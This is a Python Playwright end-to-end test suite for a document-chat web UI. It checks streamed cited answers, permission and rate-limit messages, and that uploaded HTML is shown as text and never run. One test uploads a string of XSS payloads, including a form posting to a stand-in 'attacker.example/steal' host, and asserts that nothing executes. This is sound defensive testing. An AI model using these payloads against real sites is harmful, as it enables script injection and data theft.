"""End to end: the built UI in headless chromium against the real backend (tests/conftest.py).

Upload a document, ask about it, watch the answer arrive over the backend's SSE stream, open
its citation. Needs the backend's venv (`.venv`, which runs uvicorn + ragstack) with Playwright:
`.venv/bin/pytest tests/frontend`. Under `.venv-frontend` it is skipped with the reason.
"""

import importlib.util
import shutil
import sys
import uuid
from pathlib import Path

import pytest

pytest.importorskip("playwright", reason="Playwright is not installed in this venv")

from playwright.sync_api import expect
from servers import BOOTSTRAP_ADMIN_PASSWORD
from ui_flows import answer_lengths, ask, choose_collection, screenshot, sign_in, upload

pytestmark = pytest.mark.e2e

FACT = (
    "The Aurora observatory keeps exactly 42 solar drones in its fleet. "
    "Each drone is inspected every Tuesday by the night crew."
)


def backend_runnable() -> str:
    """Why the backend_server fixture cannot run in this interpreter, or ''."""
    if importlib.util.find_spec("ragstack") is None:
        return "the ragstack backend is not installed in this venv (use .venv/bin/pytest)"
    if not (Path(sys.executable).parent / "uvicorn").exists() and not shutil.which("uvicorn"):
        return "uvicorn is not installed in this venv (use .venv/bin/pytest)"
    return ""


@pytest.fixture
def real_backend(request):
    if reason := backend_runnable():
        pytest.skip(reason)
    return request.getfixturevalue("backend_server")


def test_upload_ask_streamed_cited_answer(page, real_backend, pacing_proxy, start_ui, tmp_path):
    # Requests pass unchanged; SSE events are only spaced out so the browser can show each one.
    ui = start_ui(pacing_proxy(real_backend.url))
    sign_in(page, ui, "admin", BOOTSTRAP_ADMIN_PASSWORD)
    collection = f"e2e-{uuid.uuid4().hex[:8]}"

    page.goto(ui + "/collections")
    page.get_by_label("Collection name").fill(collection)
    page.get_by_label("Description").fill("Created by the UI's end-to-end test")
    page.get_by_role("button", name="Create").click()
    choose_collection(page, ui, collection)

    document = tmp_path / "aurora_fleet.md"
    document.write_text(f"# Aurora fleet\n\n{FACT}\n")
    upload(page, ui, [document])

    ask(page, ui, "How many solar drones does the Aurora observatory keep?")
    answer = page.locator(".message.assistant").last
    expect(answer.locator(".answer")).to_contain_text("42 solar drones")
    lengths = answer_lengths(page)
    assert len(lengths) >= 3, f"the answer was not rendered token by token: {lengths}"
    expect(answer.get_by_role("alert")).to_have_count(0)
    citation = answer.locator(".citation").first
    expect(citation).to_be_visible()
    expect(citation).to_have_attribute("title", "aurora_fleet.md")
    screenshot(page, "e2e-chat-answer")

    citation.click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("aurora_fleet.md")
    expect(page.locator(".cited-passage")).to_contain_text("42 solar drones")
    screenshot(page, "e2e-cited-passage")
    page.keyboard.press("Escape")
    expect(page.locator(".cited-passage")).to_be_hidden()
    answer.locator(".answer a", has_text="[1]").click()
    expect(page.locator(".cited-passage")).to_contain_text("42 solar drones")
    page.keyboard.press("Escape")

    # The conversation comes back from GET /v1/conversations/{id} after a reload.
    page.reload()
    expect(page.locator(".message.user")).to_have_text(
        ["How many solar drones does the Aurora observatory keep?"]
    )
    expect(page.locator(".message.assistant .answer")).to_contain_text("42 solar drones")

    page.goto(ui + "/status")
    expect(page.locator("#ready-summary")).to_contain_text("ready")
    screenshot(page, "e2e-status")


def make_user(backend, role: str) -> tuple[str, str]:
    name, password = f"{role}-{uuid.uuid4().hex[:8]}", "a password of the test user"
    with backend.client() as admin:
        body = {"name": name, "password": password, "role": role}
        admin.post("/v1/users", json=body).raise_for_status()
    return name, password


def test_real_refusals_are_explained(page, real_backend, backend_factory, start_ui, tmp_path):
    """The backend's own 403 and 429 answers reach the person as sentences."""
    collection = f"e2e-{uuid.uuid4().hex[:8]}"
    with real_backend.client() as admin:
        admin.post("/v1/collections", json={"name": collection}).raise_for_status()

    read_only = start_ui(real_backend.url)
    sign_in(page, read_only, *make_user(real_backend, "reader"))
    choose_collection(page, read_only, collection)
    document = tmp_path / "notes.txt"
    document.write_text("Read-only keys cannot add documents.\n")
    page.goto(read_only + "/documents")
    page.locator("#documents-upload input[type=file]").set_input_files(str(document))
    page.locator("#upload-button").click()
    row = page.locator("#upload-list .upload-row").filter(has_text="notes.txt")
    expect(row.get_by_text("failed", exact=True)).to_be_visible()
    expect(row).to_contain_text("not allowed to do this (403)")

    # Each user has their own bucket: 5 requests burst on this backend; page loads spend some.
    strict = backend_factory(
        env={"RAGSTACK_RATE_LIMIT_PER_MINUTE": "6", "RAGSTACK_RATE_LIMIT_BURST": "5"}
    )
    with strict.client() as admin:
        admin.post("/v1/collections", json={"name": collection}).raise_for_status()
    limited = start_ui(strict.url)
    sign_in(page, limited, "admin", BOOTSTRAP_ADMIN_PASSWORD)
    page.goto(limited + "/")
    for attempt in range(6):
        ask(page, limited, f"Question {attempt}?")
        if "Too many requests" in page.locator(".message.assistant").last.inner_text():
            break
    expect(page.locator(".message.assistant").last).to_contain_text(
        "Too many requests: the backend is rate limiting. Try again in"
    )
    screenshot(page, "e2e-rate-limited")


PAYLOADS = (
    "Payload fleet manual: "
    "<script>window.__xss = 1</script> "
    '<img src="/x.png" onerror="window.__xss = 2"> '
    '<iframe srcdoc="<script>parent.__xss = 3</script>"></iframe> '
    '<form action="https://attacker.example/steal"><input name="q"><button>Go</button></form> '
    '<svg onload="window.__xss = 4"></svg> '
    '<a href="javascript:window.__xss = 5">click me</a> '
    "[md link](javascript:window.__xss=6) "
    '<div style="position:fixed;inset:0" onmouseover="window.__xss = 7">cover</div> '
    "and the payload fleet has 17 kites\n"
)


def test_html_in_documents_is_shown_never_run(page, real_backend, start_ui, tmp_path):
    """An uploaded document full of HTML/JS, quoted verbatim in the answer and the passage:
    shown as text, nothing executes, no element of it exists in the page."""
    ui = start_ui(real_backend.url)
    sign_in(page, ui, "admin", BOOTSTRAP_ADMIN_PASSWORD)
    collection = f"xss-{uuid.uuid4().hex[:8]}"
    with real_backend.client() as admin:
        admin.post("/v1/collections", json={"name": collection}).raise_for_status()
    choose_collection(page, ui, collection)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))

    document = tmp_path / "payload_fleet.txt"
    document.write_text(PAYLOADS)
    upload(page, ui, [document])
    ask(page, ui, "How many kites does the payload fleet have?")
    answer = page.locator(".message.assistant").last.locator(".answer")
    expect(answer).to_contain_text("<script>")  # quoted as text
    expect(answer).to_contain_text("<iframe srcdoc=")
    answer.hover()
    for link in answer.locator("a").all():
        if "[1]" not in link.inner_text():
            link.click()
    page.locator(".message.assistant .citation").last.click()
    passage = page.locator(".cited-passage")
    expect(passage).to_contain_text('<img src="/x.png" onerror=')
    page.mouse.move(5, 5)
    page.wait_for_timeout(500)

    for area in (answer, passage):
        for tag in ("script", "img", "iframe", "form", "svg", "input", "div[style]"):
            assert area.locator(tag).count() == 0, f"<{tag}> from the document was rendered"
    assert page.evaluate("() => window.__xss") is None
    assert not dialogs
    assert not [u for u in requests if "x.png" in u or "attacker.example" in u]
    expect(page).to_have_url(ui + "/")
    screenshot(page, "e2e-payloads-as-text")
